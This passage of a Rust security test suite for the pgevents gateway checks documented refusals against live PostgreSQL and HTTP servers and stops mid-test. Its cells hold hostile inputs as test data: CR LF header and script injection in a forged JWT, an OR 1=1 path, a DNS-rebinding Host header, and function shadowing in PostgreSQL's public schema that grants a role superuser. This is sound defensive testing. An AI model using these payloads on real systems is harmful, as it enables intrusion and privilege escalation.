//! SECURITY.md's privilege matrix, tried: every refusal the page marks with an id (G1, S4, R9,
//! ...) is attempted here, as the actor it names would, against real servers (PostgreSQL,
//! RabbitMQ, the `pgevents` binary, real HTTP servers), and the refusal is asserted (a status, an
//! error, or the absence of the data). Cells of one surface share a world and run in the page's
//! order; each failing cell is reported by its id. The page and this file must name the same ids
//! (`every_refusal_on_the_security_page_is_tried`), so a new surface cannot land without its row.

mod common;

use std::collections::BTreeSet;
use std::future::Future;
use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use base64::Engine as _;
use common::gateway::{hs256, now, Gateway, Over};
use common::{stop, World, WAIT};
use futures_util::FutureExt as _;
use pgevents_testkit::{
    delete_exchange, delete_queue, free_local_addr, metric_value, publish_raw, server_tls_acceptor, unique_name,
    wait_for, EventQueue, HttpRecorder, ImpostorPg, ImpostorPlay, PgCluster, PgEventsProcess, Reply, SseClient, TestCa,
};
use serde_json::{json, Value};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

const SECRET: &[u8] = b"a shared secret of 32 bytes, ok!";
const SHORT: Duration = Duration::from_millis(800);

const GATEWAY_CELLS: &[&str] = &["G1", "G2", "G3", "G4", "G5", "G6", "G7", "G8", "G9", "G10", "T1"];
const SESSION_CELLS: &[&str] =
    &["S1", "S2", "S3", "S4", "S5", "S6", "S7", "S8", "S9", "S10", "S12", "S13", "S14", "S15", "S16", "S11"];
const RULE_CELLS: &[&str] = &[
    "R1", "R2", "R3", "R4", "R5", "R6", "R7", "R8", "R9", "R10", "R11", "R12", "R13", "R14", "R15", "R16", "R17",
    "R18", "R19", "R20", "R21", "R22", "R23", "R24", "R25", "B1", "B2", "L1", "M1", "C1",
];
const NETWORK_CELLS: &[&str] = &["N1", "N2", "N3"];
const STREAM_CELLS: &[&str] = &["B3", "C2", "G11"];
const PRODUCER_CELLS: &[&str] =
    &["P1", "P2", "P3", "P4", "P5", "W1", "W2", "W3", "W4", "W5", "W6", "W7", "W8", "W9", "W10"];

type Verdict = Result<(), String>;

macro_rules! ensure {
    ($cond:expr, $($arg:tt)*) => {
        let holds: bool = $cond;
        if !holds {
            return Err(format!($($arg)*));
        }
    };
}

/// Runs each cell (a panic counts as a failure of that cell) and fails with every failed id.
async fn run_cells<'w, F, Fut>(cells: &[&'static str], mut cell: F)
where
    F: FnMut(&'static str) -> Fut,
    Fut: Future<Output = Verdict> + 'w,
{
    let mut failed = Vec::new();
    for id in cells {
        let verdict = std::panic::AssertUnwindSafe(cell(id)).catch_unwind().await;
        match verdict {
            Ok(Ok(())) => eprintln!("cell {id}: refused as it should be"),
            Ok(Err(why)) => failed.push(format!("{id}: {why}")),
            Err(_) => failed.push(format!("{id}: panicked (see above)")),
        }
    }
    assert!(failed.is_empty(), "cells that let in what they should not:\n{}", failed.join("\n"));
}

/// The ids SECURITY.md marks (`**G1**`).
fn documented_ids() -> BTreeSet<String> {
    let page = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/SECURITY.md")).expect("SECURITY.md");
    page.split("**")
        .skip(1)
        .step_by(2)
        .filter(|id| {
            id.len() <= 4
                && id.starts_with(|c: char| c.is_ascii_uppercase())
                && id[1..].chars().all(|c| c.is_ascii_digit())
        })
        .map(str::to_owned)
        .collect()
}

#[test]
fn every_refusal_on_the_security_page_is_tried() {
    let tried: BTreeSet<String> =
        [GATEWAY_CELLS, SESSION_CELLS, RULE_CELLS, NETWORK_CELLS, PRODUCER_CELLS, STREAM_CELLS]
            .concat()
            .iter()
            .map(|s| s.to_string())
            .collect();
    let documented = documented_ids();
    assert!(!documented.is_empty());
    let untried: Vec<&String> = documented.difference(&tried).collect();
    let undocumented: Vec<&String> = tried.difference(&documented).collect();
    assert!(untried.is_empty(), "SECURITY.md names refusals no test tries: {untried:?}");
    assert!(undocumented.is_empty(), "tried here but not on SECURITY.md: {undocumented:?}");
}

// ---------------------------------------------------------------------------------------------
// Helpers

fn b64url(text: &str) -> String {
    base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(text)
}

/// Claims the gateway of this world accepts, with `extra` merged in (`null` removes a claim).
fn claims(sub: Option<&str>, extra: Value) -> Value {
    let mut claims =
        json!({"exp": now() + 600, "aud": "app", "iss": "https://id.example", "pgevents": {"tables": ["public.*"]}});
    if let Some(sub) = sub {
        claims["sub"] = json!(sub);
    }
    for (key, value) in extra.as_object().cloned().unwrap_or_default() {
        match value {
            Value::Null => {
                claims.as_object_mut().map(|c| c.remove(&key));
            }
            value => claims[key.as_str()] = value,
        }
    }
    claims
}

fn token(sub: Option<&str>, extra: Value) -> String {
    hs256(SECRET, claims(sub, extra))
}

fn bearer(token: &str) -> (&'static str, String) {
    ("Authorization", format!("Bearer {token}"))
}

/// Sends `request` and reads the whole answer (the connection closes after it).
async fn raw(addr: SocketAddr, request: &[u8]) -> String {
    let mut stream = tokio::net::TcpStream::connect(addr).await.expect("connect");
    stream.write_all(request).await.expect("send");
    let mut response = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(3), stream.read_to_end(&mut response)).await;
    String::from_utf8_lossy(&response).into_owned()
}

/// Sends `request` and reads what arrives in the first second (for streams that stay open).
async fn raw_head(addr: SocketAddr, request: &[u8]) -> String {
    let mut stream = tokio::net::TcpStream::connect(addr).await.expect("connect");
    stream.write_all(request).await.expect("send");
    let mut response = vec![0u8; 4096];
    let n = tokio::time::timeout(Duration::from_secs(1), stream.read(&mut response))
        .await
        .ok()
        .and_then(Result::ok)
        .unwrap_or(0);
    String::from_utf8_lossy(&response[..n]).into_owned()
}

/// A raw response's status, header lines (name in lower case) and body.
fn split_response(text: &str) -> (u16, Vec<(String, String)>, String) {
    let (head, body) = text.split_once("\r\n\r\n").unwrap_or((text, ""));
    let mut lines = head.split("\r\n");
    let status = lines.next().and_then(|l| l.split(' ').nth(1)).and_then(|s| s.parse().ok()).unwrap_or(0);
    let headers = lines
        .filter_map(|l| l.split_once(':'))
        .map(|(n, v)| (n.trim().to_ascii_lowercase(), v.trim().to_owned()))
        .collect();
    (status, headers, body.to_owned())
}

fn header<'a>(headers: &'a [(String, String)], name: &str) -> Option<&'a str> {
    headers.iter().find(|(n, _)| n == name).map(|(_, v)| v.as_str())
}

/// A connection as an ordinary role (password = its name, unless given).
async fn connect_as(pg: &PgCluster, user: &str, password: &str) -> tokio_postgres::Client {
    let (client, connection) = tokio_postgres::Config::new()
        .host("127.0.0.1")
        .port(common::pg_port(pg))
        .user(user)
        .password(password)
        .dbname("postgres")
        .connect(tokio_postgres::NoTls)
        .await
        .unwrap_or_else(|e| panic!("connect as {user}: {e}"));
    tokio::spawn(connection);
    client
}

/// A connection whose notifications come out of the receiver.
async fn listening_as(
    pg: &PgCluster,
    user: &str,
    channel: &str,
) -> (tokio_postgres::Client, tokio::sync::mpsc::UnboundedReceiver<String>) {
    let (client, mut connection) = tokio_postgres::Config::new()
        .host("127.0.0.1")
        .port(common::pg_port(pg))
        .user(user)
        .password(user)
        .dbname("postgres")
        .connect(tokio_postgres::NoTls)
        .await
        .expect("connect to listen");
    let (tx, rx) = tokio::sync::mpsc::unbounded_channel();
    tokio::spawn(async move {
        let mut messages = futures_util::stream::poll_fn(move |cx| connection.poll_message(cx));
        while let Some(Ok(message)) = futures_util::StreamExt::next(&mut messages).await {
            if let tokio_postgres::AsyncMessage::Notification(n) = message {
                let _ = tx.send(n.payload().to_owned());
            }
        }
    });
    client.batch_execute(&format!("LISTEN {channel}")).await.expect("LISTEN");
    (client, rx)
}

/// The server's message of a failed statement ("" when it succeeded).
fn db_message<T>(result: &Result<T, tokio_postgres::Error>) -> String {
    match result {
        Ok(_) => String::new(),
        Err(e) => e.as_db_error().map(|d| d.message().to_owned()).unwrap_or_else(|| e.to_string()),
    }
}

fn db_code<T>(result: &Result<T, tokio_postgres::Error>) -> String {
    match result {
        Ok(_) => String::new(),
        Err(e) => e.code().map(|c| c.code().to_owned()).unwrap_or_default(),
    }
}

/// The next SSE events until `timeout` passes without one.
async fn drain(client: &mut SseClient, timeout: Duration) -> Vec<(String, Value)> {
    let mut out = Vec::new();
    while let Some(message) = client.next(timeout).await {
        out.push((message.event.clone(), message.json()));
    }
    out
}

async fn rules_install(pg: &PgCluster) {
    let mut install = PgEventsProcess::spawn(&["rules", "install"], &pg.env());
    assert_eq!(install.wait(WAIT).await, Some(0), "{}", install.stderr());
}

// ---------------------------------------------------------------------------------------------
// The gateway and the sessions

struct GatewayWorld {
    world: World,
    /// JWT (with audience and issuer), sessions, rows of public.inbox addressed by recipient.
    gw: Gateway,
    /// No authentication, sessions.
    open: Gateway,
    producer: PgEventsProcess,
    _keys: tempfile::TempDir,
}

impl GatewayWorld {
    async fn start() -> GatewayWorld {
        let world = World::new().await;
        world
            .pg
            .execute(
                "CREATE TABLE inbox (id int PRIMARY KEY, recipient text, body text);
                 CREATE TABLE notes (id int PRIMARY KEY, item text, secret text);
                 CREATE TABLE guarded (id int PRIMARY KEY, tenant text);
                 ALTER TABLE guarded ENABLE ROW LEVEL SECURITY;
                 CREATE POLICY tenant ON guarded USING (tenant = current_user);
                 CREATE TABLE hidden (id int PRIMARY KEY, v text);
                 CREATE TABLE shared (id int PRIMARY KEY, v text);
                 CREATE ROLE alice LOGIN PASSWORD 'alice'; CREATE ROLE bob LOGIN PASSWORD 'bob';
                 GRANT SELECT (id, item) ON notes TO alice;
                 GRANT SELECT ON guarded, shared, inbox TO alice;
                 CREATE SCHEMA hr; CREATE TABLE hr.salaries (id int PRIMARY KEY, salary int);
                 GRANT SELECT ON hr.salaries TO alice;
                 CREATE SCHEMA \"billing.v2\"; CREATE TABLE \"billing.v2\".invoices (id int PRIMARY KEY, card text);
                 CREATE SCHEMA billing; CREATE TABLE billing.\"v2.invoices\" (id int PRIMARY KEY);
                 GRANT USAGE ON SCHEMA billing TO alice; GRANT SELECT ON billing.\"v2.invoices\" TO alice;",
            )
            .await;
        rules_install(&world.pg).await;
        world
            .pg
            .execute("INSERT INTO pgevents.setting VALUES ('max_sessions_per_role', '4'), ('max_subscriptions_per_session', '50')")
            .await;
        let keys = tempfile::tempdir().unwrap();
        let secret_file = keys.path().join("secret");
        std::fs::write(&secret_file, SECRET).unwrap();
        let secret_file = secret_file.display().to_string();
        let pg = world.pg.env();
        let mut env: Vec<(&str, &str)> = pg.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
        env.extend([("PGEVENTS_SESSIONS", "true"), ("PGEVENTS_SESSIONS_REFRESH", "1")]);
        let open = Gateway::start(&world, &unique_name("history"), None, &env).await;
        env.extend([
            ("PGEVENTS_JWT_SECRET_FILE", secret_file.as_str()),
            ("PGEVENTS_JWT_AUDIENCE", "app"),
            ("PGEVENTS_JWT_ISSUER", "https://id.example"),
            ("PGEVENTS_SUBSCRIBER_COLUMN", "public.inbox=recipient"),
        ]);
        let gw = Gateway::start(&world, &unique_name("history"), None, &env).await;
        let producer = world
            .producer(&[("PGTABLES", "public.inbox,public.notes,public.guarded,public.hidden,public.shared")])
            .await;
        GatewayWorld { world, gw, open, producer, _keys: keys }
    }

    async fn alice(&self) -> tokio_postgres::Client {
        connect_as(&self.world.pg, "alice", "alice").await
    }

    async fn bob(&self) -> tokio_postgres::Client {
        connect_as(&self.world.pg, "bob", "bob").await
    }

    async fn session_of(client: &tokio_postgres::Client) -> String {
        client.query_one("SELECT pgevents.session_create()::text", &[]).await.expect("a session").get(0)
    }

    async fn stop(self) {
        stop(self.producer).await;
        self.gw.stop().await;
        self.open.stop().await;
        delete_exchange(&self.world.exchange).await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn gateway_edge() {
    let w = GatewayWorld::start().await;
    run_cells(GATEWAY_CELLS, |id| gateway_cell(id, &w)).await;
    w.stop().await;
}

async fn gateway_cell(id: &str, w: &GatewayWorld) -> Verdict {
    let gw = &w.gw;
    match id {
        "G1" => {
            // A JSON header whose alg holds CR LF, a Content-Type and a script.
            let evil = r#"{"alg":"\r\nContent-Type: text/html\r\nX-Injected: 1\r\n\r\n<script>alert(1)</script>","typ":"JWT"}"#;
            let forged = format!("{}.{}.c2ln", b64url(evil), b64url(r#"{"exp":1}"#));
            let request = format!(
                "GET /events?table=public.inbox HTTP/1.1\r\nHost: gw\r\nAuthorization: Bearer {forged}\r\n\r\n"
            );
            let (status, headers, body) = split_response(&raw(gw.addr, request.as_bytes()).await);
            ensure!(status == 401, "status {status}");
            ensure!(header(&headers, "x-injected").is_none(), "an injected header: {headers:?}");
            let types: Vec<&(String, String)> = headers.iter().filter(|(n, _)| n == "content-type").collect();
            ensure!(types.len() == 1 && types[0].1.starts_with("text/plain"), "content types {types:?}");
            ensure!(!body.contains("<script>"), "the script reached the body: {body:?}");
            ensure!(header(&headers, "x-content-type-options") == Some("nosniff"), "no nosniff: {headers:?}");
            let challenge = header(&headers, "www-authenticate").unwrap_or_default();
            ensure!(challenge.chars().all(|c| (' '..='~').contains(&c)) && !challenge.contains('<'), "{challenge:?}");
            Ok(())
        }
        "G2" => {
            for (missing, reason) in [("aud", "aud claim is missing"), ("iss", "iss claim is missing")] {
                let mut without = serde_json::Map::new();
                without.insert(missing.to_owned(), Value::Null);
                let token = token(Some("ann"), Value::Object(without));
                let (name, value) = bearer(&token);
                let client = SseClient::connect(gw.addr, "/events?table=public.inbox", &[(name, &value)]).await;
                ensure!(
                    client.status == 401 && client.body.contains(reason),
                    "without {missing}: {} {}",
                    client.status,
                    client.body
                );
            }
            Ok(())
        }
        "G3" => {
            let token = token(None, json!({}));
            let (name, value) = bearer(&token);
            let client =
                SseClient::connect(gw.addr, "/events?table=public.inbox&consumer_id=bob", &[(name, &value)]).await;
            ensure!(
                client.status == 401 && client.body.contains("sub claim is missing"),
                "{} {}",
                client.status,
                client.body
            );
            Ok(())
        }
        "G4" => {
            let token = token(Some("ann"), json!({"pgevents": {"tables": ["public.notes"]}}));
            let (name, value) = bearer(&token);
            let client = SseClient::connect(gw.addr, "/events?table=public.inbox", &[(name, &value)]).await;
            ensure!(client.status == 403, "{} {}", client.status, client.body);
            Ok(())
        }
        "G5" => {
            let token = token(Some("ann"), json!({}));
            let (name, value) = bearer(&token);
            let mut ann = gw.subscribe("/events?table=public.inbox", &[(name, &value)]).await;
            w.world.pg.execute("INSERT INTO inbox VALUES (1, 'bob', 'for bob'); DELETE FROM inbox WHERE id = 1;").await;
            w.world.pg.execute("INSERT INTO inbox VALUES (2, 'ann', 'for ann')").await;
            let seen = drain(&mut ann, SHORT * 2).await;
            let ids: Vec<(String, Value)> = seen.iter().map(|(e, d)| (e.clone(), d["id"].clone())).collect();
            ensure!(ids == [("insert".to_owned(), json!(2))], "ann saw {ids:?}: only her own row");
            Ok(())
        }
        "G6" => {
            let token = token(Some("ann"), json!({"exp": 9_223_372_036_854_775_807u64}));
            let (name, value) = bearer(&token);
            let client = SseClient::connect(gw.addr, "/events?table=public.inbox", &[(name, &value)]).await;
            ensure!(
                client.status == 401 && client.body.contains("exp claim is out of range"),
                "{} {}",
                client.status,
                client.body
            );
            let fine = token_client(gw.addr, &token_for_ann()).await;
            ensure!(fine == 200, "the gateway no longer serves: {fine}");
            Ok(())
        }
        "G7" => {
            let client = SseClient::connect(w.open.addr, "/events?consumer_id=a%0D%0Ab%1B%5B31mred", &[]).await;
            ensure!(client.status == 400, "{} {}", client.status, client.body);
            let by_header = SseClient::connect(w.open.addr, "/events", &[("X-Consumer-Id", "x\u{1b}[31mred")]).await;
            ensure!(by_header.status == 400, "{} {}", by_header.status, by_header.body);
            let log = w.open.process.stderr();
            ensure!(!log.contains('\u{1b}') && !log.contains("a\r\nb"), "a control character reached the log");
            Ok(())
        }
        "G8" => {
            // Just over 16 KiB: the head used to be read in 1 KiB steps and checked only when
            // incomplete, so a head up to 1 KiB over the limit was taken.
            let padding = "x".repeat((16 << 10) - 20);
            let big = format!("GET /events?consumer_id=a HTTP/1.1\r\nHost: gw\r\nX-Pad: {padding}\r\n\r\n");
            let (status, _, _) = split_response(&raw(w.open.addr, big.as_bytes()).await);
            ensure!(status == 431, "a 17 KiB head: {status}");
            let (status, _, body) =
                split_response(&raw(w.open.addr, b"GET /events?consumer_id=a HTTP/1.1\r\n\r\n").await);
            ensure!(status == 400 && body.contains("Host"), "HTTP/1.1 without Host: {status} {body}");
            Ok(())
        }
        "G9" => {
            for (what, request) in [
                ("the tail page", "GET / HTTP/1.1\r\nHost: gw\r\nConnection: close\r\n\r\n"),
                ("/readyz", "GET /readyz HTTP/1.1\r\nHost: gw\r\nConnection: close\r\n\r\n"),
                ("/healthz", "GET /healthz HTTP/1.1\r\nHost: gw\r\nConnection: close\r\n\r\n"),
                ("a refusal", "GET /events HTTP/1.1\r\nHost: gw\r\n\r\n"),
                ("a 405", "POST /events HTTP/1.1\r\nHost: gw\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"),
            ] {
                let (status, headers, _) = split_response(&raw(w.open.addr, request.as_bytes()).await);
                ensure!(
                    header(&headers, "x-content-type-options") == Some("nosniff"),
                    "{what} ({status}): {headers:?}"
                );
            }
            let stream = SseClient::connect(w.open.addr, "/events?consumer_id=probe", &[]).await;
            ensure!(
                stream.status == 200 && stream.header("x-content-type-options") == Some("nosniff"),
                "the stream: {:?}",
                stream.headers
            );
            Ok(())
        }
        "G10" => {
            let port = w.open.addr.port();
            let rebound = format!("GET /events?consumer_id=a HTTP/1.1\r\nHost: rebind.attacker.example:{port}\r\n\r\n");
            let (status, _, _) = split_response(&raw(w.open.addr, rebound.as_bytes()).await);
            ensure!(status == 421, "a page whose name was rebound to the gateway: {status}");
            let by_address = SseClient::connect(w.open.addr, "/events?consumer_id=local", &[]).await;
            ensure!(by_address.status == 200, "its own address: {} {}", by_address.status, by_address.body);
            let local = format!("GET /events?consumer_id=a HTTP/1.1\r\nHost: localhost:{port}\r\n\r\n");
            let (status, _, _) = split_response(&raw_head(w.open.addr, local.as_bytes()).await);
            ensure!(status == 200, "localhost: {status}");
            Ok(())
        }
        "T1" => {
            let (status, headers, body) =
                split_response(&raw(w.open.addr, b"GET / HTTP/1.1\r\nHost: gw\r\nConnection: close\r\n\r\n").await);
            ensure!(status == 200 && body.to_ascii_lowercase().contains("<html"), "{status}");
            let csp = header(&headers, "content-security-policy").unwrap_or_default();
            ensure!(csp.contains("default-src 'self'"), "CSP {csp:?}");
            ensure!(header(&headers, "x-content-type-options") == Some("nosniff"), "{headers:?}");
            Ok(())
        }
        other => Err(format!("no such cell {other}")),
    }
}

fn token_for_ann() -> String {
    token(Some("ann"), json!({}))
}

async fn token_client(addr: SocketAddr, token: &str) -> u16 {
    let (name, value) = bearer(token);
    SseClient::connect(addr, "/events?table=public.inbox", &[(name, &value)]).await.status
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sessions() {
    let w = GatewayWorld::start().await;
    let alice = w.alice().await;
    let mine = GatewayWorld::session_of(&alice).await;
    let state = SessionState { alice, mine };
    run_cells(SESSION_CELLS, |id| session_cell(id, &w, &state)).await;
    w.stop().await;
}

struct SessionState {
    alice: tokio_postgres::Client,
    /// A session of alice's.
    mine: String,
}

async fn session_cell(id: &str, w: &GatewayWorld, s: &SessionState) -> Verdict {
    let alice = &s.alice;
    let gw = &w.gw;
    let alice_token = token(Some("alice"), json!({"pgevents": {}}));
    match id {
        "S1" => {
            let direct = alice
                .execute(
                    "INSERT INTO pgevents.subscription (session_id, kind, table_schema, table_name) VALUES ($1::text::uuid, 'table', 'public', 'hidden')",
                    &[&s.mine],
                )
                .await;
            ensure!(db_code(&direct) == "42501", "a direct insert: {:?} {}", direct.as_ref().ok(), db_message(&direct));
            let call = alice.execute(&format!("SELECT pgevents.subscribe_table('{}', 'hidden')", s.mine), &[]).await;
            ensure!(db_code(&call) == "42501", "through the function: {}", db_message(&call));
            Ok(())
        }
        "S2" => {
            let session = GatewayWorld::session_of(alice).await;
            let subscribed =
                alice.execute(&format!("SELECT pgevents.subscribe_table('{session}', 'notes')"), &[]).await;
            ensure!(subscribed.is_ok(), "alice may read notes (id, item): {}", db_message(&subscribed));
            let (name, value) = bearer(&alice_token);
            let mut stream = gw.subscribe(&format!("/sessions/{session}/events"), &[(name, &value)]).await;
            w.world.pg.execute("INSERT INTO notes VALUES (1, 'pen', 'classified')").await;
            let seen = drain(&mut stream, SHORT * 2).await;
            ensure!(seen.len() == 1, "{seen:?}");
            ensure!(seen[0].1["row"] == json!({"id": 1, "item": "pen"}), "the row sent: {}", seen[0].1);
            alice
                .execute(&format!("SELECT pgevents.session_drop('{session}')"), &[])
                .await
                .map_err(|e| e.to_string())?;
            Ok(())
        }
        "S3" => {
            let call = alice.execute(&format!("SELECT pgevents.subscribe_table('{}', 'guarded')", s.mine), &[]).await;
            ensure!(
                db_code(&call) == "42501" && db_message(&call).contains("row-level security"),
                "{}",
                db_message(&call)
            );
            Ok(())
        }
        "S4" => {
            let forever = alice
                .query_one(
                    "INSERT INTO pgevents.session (last_seen, created_at) VALUES ('infinity', 'infinity') RETURNING last_seen < now() + interval '1 minute'",
                    &[],
                )
                .await
                .map_err(|e| e.to_string())?;
            ensure!(forever.get::<_, bool>(0), "a session that never expires");
            let mut made = Vec::new();
            let refused = loop {
                match alice.query_one("SELECT pgevents.session_create()::text", &[]).await {
                    Ok(row) if made.len() < 10 => made.push(row.get::<_, String>(0)),
                    Ok(_) => break String::new(),
                    Err(e) => break db_message::<()>(&Err(e)),
                }
            };
            // --sessions-refresh is 1 s: the next full reload counts the roles at the limit.
            let counted = async {
                for _ in 0..40 {
                    if gw.metric("pgevents_gateway_session_owners_at_limit").await >= 1.0 {
                        return true;
                    }
                    tokio::time::sleep(Duration::from_millis(100)).await;
                }
                false
            };
            let counted = counted.await;
            alice
                .execute("SELECT pgevents.session_drop(id) FROM pgevents.session WHERE id::text <> $1", &[&s.mine])
                .await
                .map_err(|e| e.to_string())?;
            ensure!(refused.contains("the most allowed"), "no limit: {} more sessions made; {refused:?}", made.len());
            ensure!(counted, "the limit reached is not on /metrics");
            Ok(())
        }
        "S5" => {
            let (_bob, mut notified) = listening_as(&w.world.pg, "bob", "pgevents_subscriptions").await;
            alice
                .execute(&format!("SELECT pgevents.subscribe_table('{}', 'shared')", s.mine), &[])
                .await
                .map_err(|e| e.to_string())?;
            let payload =
                tokio::time::timeout(WAIT, notified.recv()).await.map_err(|_| "no notification".to_owned())?;
            let payload = payload.unwrap_or_default();
            let ids = w
                .world
                .pg
                .query_text("SELECT string_agg(id::text, ',') FROM pgevents.session")
                .await
                .unwrap_or_default();
            ensure!(!payload.is_empty() && !ids.contains(&payload), "the payload {payload:?} is a session id ({ids})");
            Ok(())
        }
        "S6" => {
            let bob = w.bob().await;
            let count: i64 =
                bob.query_one("SELECT count(*) FROM pgevents.session", &[]).await.map_err(|e| e.to_string())?.get(0);
            ensure!(count == 0, "bob sees {count} sessions");
            let subscribe = bob.execute(&format!("SELECT pgevents.subscribe_table('{}', 'shared')", s.mine), &[]).await;
            ensure!(db_message(&subscribe).starts_with("no session"), "{}", db_message(&subscribe));
            let direct = bob
                .execute(
                    "INSERT INTO pgevents.subscription (session_id, kind, table_schema, table_name) VALUES ($1::text::uuid, 'table', 'public', 'shared')",
                    &[&s.mine],
                )
                .await;
            ensure!(direct.is_err(), "bob subscribed alice's session directly");
            let drop = bob.execute(&format!("SELECT pgevents.session_drop('{}')", s.mine), &[]).await;
            ensure!(db_message(&drop).starts_with("no session"), "{}", db_message(&drop));
            Ok(())
        }
        "S7" => {
            let bob = w.bob().await;
            bob.batch_execute(
                "SELECT pg_notify('pgevents_subscriptions', 'garbage-' || i) FROM generate_series(1, 3000) i",
            )
            .await
            .map_err(|e| e.to_string())?;
            let session = GatewayWorld::session_of(alice).await;
            let (name, value) = bearer(&alice_token);
            let mut stream = gw.subscribe(&format!("/sessions/{session}/events"), &[(name, &value)]).await;
            alice
                .execute(&format!("SELECT pgevents.subscribe_table('{session}', 'shared')"), &[])
                .await
                .map_err(|e| e.to_string())?;
            tokio::time::sleep(Duration::from_millis(500)).await;
            w.world.pg.execute("INSERT INTO shared VALUES (7, 'after the flood')").await;
            let seen = drain(&mut stream, Duration::from_secs(3)).await;
            ensure!(seen.iter().any(|(_, d)| d["row"]["id"] == 7), "the real change was not applied: {seen:?}");
            let ignored = gw.metric("pgevents_gateway_notifications_ignored_total").await;
            ensure!(ignored >= 1.0, "garbage notifications are not counted: {ignored}");
            alice
                .execute(&format!("SELECT pgevents.session_drop('{session}')"), &[])
                .await
                .map_err(|e| e.to_string())?;
            Ok(())
        }
        "S8" => {
            let bob_token = token(Some("bob"), json!({}));
            let (name, value) = bearer(&bob_token);
            let other = SseClient::connect(gw.addr, &format!("/sessions/{}/events", s.mine), &[(name, &value)]).await;
            ensure!(other.status == 403, "bob's token on alice's session: {} {}", other.status, other.body);
            let nobody = token(None, json!({}));
            let (name, value) = bearer(&nobody);
            let anonymous =
                SseClient::connect(gw.addr, &format!("/sessions/{}/events", s.mine), &[(name, &value)]).await;
            ensure!(anonymous.status == 401, "a token without sub: {} {}", anonymous.status, anonymous.body);
            Ok(())
        }
        "S9" => {
            let session = GatewayWorld::session_of(alice).await;
            alice
                .execute(&format!("SELECT pgevents.subscribe_table('{session}', 'notes')"), &[])
                .await
                .map_err(|e| e.to_string())?;
            let rows_only = token(Some("alice"), json!({"pgevents": {"rows": {"item": "pen"}}}));
            let (name, value) = bearer(&rows_only);
            let mut stream = gw.subscribe(&format!("/sessions/{session}/events"), &[(name, &value)]).await;
            w.world.pg.execute("INSERT INTO notes VALUES (2, 'cup', 'x'), (3, 'pen', 'y')").await;
            let seen = drain(&mut stream, SHORT * 2).await;
            let ids: Vec<Value> = seen.iter().map(|(_, d)| d["row"]["id"].clone()).collect();
            ensure!(ids == [json!(3)], "rows seen {ids:?}: only item = pen");
            alice
                .execute(&format!("SELECT pgevents.session_drop('{session}')"), &[])
                .await
                .map_err(|e| e.to_string())?;
            Ok(())
        }
        "S10" => {
            for path in ["/sessions/not-a-uuid/events", "/sessions/x'%20OR%201=1%20--/events"] {
                let client = SseClient::connect(w.open.addr, path, &[]).await;
                ensure!(client.status == 404, "{path}: {} {}", client.status, client.body);
                ensure!(!client.body.contains("OR 1=1"), "the id is echoed: {}", client.body);
            }
            Ok(())
        }
        "S12" => {
            let named =
                alice.execute(&format!("SELECT pgevents.subscribe_table('{}', 'hr.salaries')", s.mine), &[]).await;
            // (The cast to regclass may refuse it first, as it should: alice cannot even name it.)
            ensure!(named.is_err(), "subscribed to a table of a schema alice has no USAGE on");
            let direct = alice
                .execute(
                    "INSERT INTO pgevents.subscription (session_id, kind, table_schema, table_name) VALUES ($1::text::uuid, 'table', 'hr', 'salaries')",
                    &[&s.mine],
                )
                .await;
            ensure!(db_code(&direct) == "42501" && db_message(&direct).contains("USAGE"), "{}", db_message(&direct));
            Ok(())
        }
        "S13" => {
            let direct = alice
                .execute(
                    "INSERT INTO pgevents.subscription (session_id, kind, table_schema, table_name) VALUES ($1::text::uuid, 'table', 'billing', 'v2.invoices')",
                    &[&s.mine],
                )
                .await;
            ensure!(
                db_code(&direct) == "42501" && db_message(&direct).contains("ambiguous"),
                "{}",
                db_message(&direct)
            );
            Ok(())
        }
        "S14" => {
            let session = GatewayWorld::session_of(alice).await;
            let many = alice
                .execute(
                    "INSERT INTO pgevents.subscription (session_id, kind, table_schema, table_name, pk) SELECT $1::text::uuid, 'row', 'public', 'inbox', ARRAY[g::text] FROM generate_series(1, 60) g",
                    &[&session],
                )
                .await;
            let long_key = alice
                .execute(
                    "INSERT INTO pgevents.subscription (session_id, kind, table_schema, table_name, pk) SELECT $1::text::uuid, 'row', 'public', 'inbox', array_agg(g::text) FROM generate_series(1, 40) g",
                    &[&session],
                )
                .await;
            alice
                .execute(&format!("SELECT pgevents.session_drop('{session}')"), &[])
                .await
                .map_err(|e| e.to_string())?;
            ensure!(
                db_message(&many).contains("the most allowed"),
                "60 subscriptions on one session: {}",
                db_message(&many)
            );
            ensure!(
                db_message(&long_key).contains("at most 32 values"),
                "a key of 40 values: {}",
                db_message(&long_key)
            );
            Ok(())
        }
        "S15" => {
            let bob = w.bob().await;
            for table in ["pgevents.session", "pgevents.subscription"] {
                let locked =
                    bob.batch_execute(&format!("BEGIN; LOCK TABLE {table} IN ACCESS EXCLUSIVE MODE; ROLLBACK;")).await;
                let _ = bob.batch_execute("ROLLBACK").await;
                ensure!(db_code(&locked) == "42501", "bob locked {table}: {}", db_message(&locked));
            }
            Ok(())
        }
        "S16" => {
            // A database made before PostgreSQL 15: anyone may create objects in public.
            w.world.pg.execute("GRANT CREATE ON SCHEMA public TO PUBLIC").await;
            let bob = w.bob().await;
            let planted = bob
                .batch_execute(
                    "CREATE FUNCTION public.array_to_string(a text[], sep text) RETURNS text LANGUAGE plpgsql AS $f$
                     BEGIN
                         IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN EXECUTE 'ALTER ROLE bob SUPERUSER'; END IF;
                         RETURN pg_catalog.array_to_string(a, sep);
                     END $f$;
                     CREATE FUNCTION public.pg_notify(channel text, payload name) RETURNS void LANGUAGE plpgsql AS $f$
                     BEGIN
                         IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN EXECUTE 'ALTER ROLE bob SUPERUSER'; END IF;
                         PERFORM pg_catalog.pg_notify(channel, payload::text);
                     END $f$;",
                )
                .await;
            // The gateway reads every session again (--sessions-refresh 1 s), and an administrator
            // changes a setting (a trigger notifies the workers).
            let session = GatewayWorld::session_of(alice).await;
            alice
                .execute(&format!("SELECT pgevents.subscribe_row('{session}', 'inbox', '5')"), &[])
                .await
                .map_err(|e| e.to_string())?;
            tokio::time::sleep(Duration::from_millis(2500)).await;
